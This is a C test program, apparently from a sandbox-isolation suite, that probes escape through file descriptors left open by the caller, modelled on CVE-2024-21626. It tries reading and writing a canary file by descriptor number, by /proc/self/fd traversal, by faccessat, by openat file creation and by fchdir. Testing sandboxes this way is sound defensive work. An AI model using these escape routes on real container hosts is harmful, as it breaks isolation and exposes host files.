/*
 * Uses every descriptor the caller left open, as CVE-2024-21626 and its kin do: by number, by
 * /proc/self/fd, and upwards from a folder.
 *
 * group: descriptors
 * tries: read and write the host by a descriptor the caller left open: by its number, /proc/self/fd/N/.., fchdir
 * control: plain
 * leak: dir,canary,root
 * shows: canary-read canary-changed file-made
 */
#include "attack.h"

int main(int argc, char **argv)
{
	const char *canary = param(argv, "canary"), *name = strrchr(canary, '/') ? strrchr(canary, '/') + 1 : "";
	char buf[128], path[320], value[128] = "";
	long by_number = -1, written = -1, above = -1, by_root = -1, made = -1, cwd = -1;
	int fd;

	(void)argc;
	for (fd = 3; fd < 4096; fd++) {
		ssize_t n;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		n = pread(fd, buf, sizeof(buf) - 1, 0);
		if (n > 0) {
			by_number = n;
			buf[n] = 0;
			(void)snprintf(value, sizeof(value), "%s", buf);
			if (pwrite(fd, "X", 1, 0) == 1)
				written = 1;
		}
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d/../../../../../..%s", fd, canary);
		if (access(path, R_OK) == 0)
			above = 0;
		if (faccessat(fd, canary + 1, R_OK, 0) == 0)
			by_root = 0;
		if (openat(fd, "made", O_WRONLY | O_CREAT | O_CLOEXEC, 0600) >= 0)
			made = 0;
		if (fchdir(fd) == 0 && access(name, R_OK) == 0)
			cwd = 0;
	}
	errno = EBADF;
	if (by_number >= 0)
		got("by-number", value);
	else
		refused("by-number", errno);
	tried("write", written);
	tried("above", above);
	tried("from-root", by_root);
	tried("create", made);
	tried("fchdir", cwd);
	return ended();
}
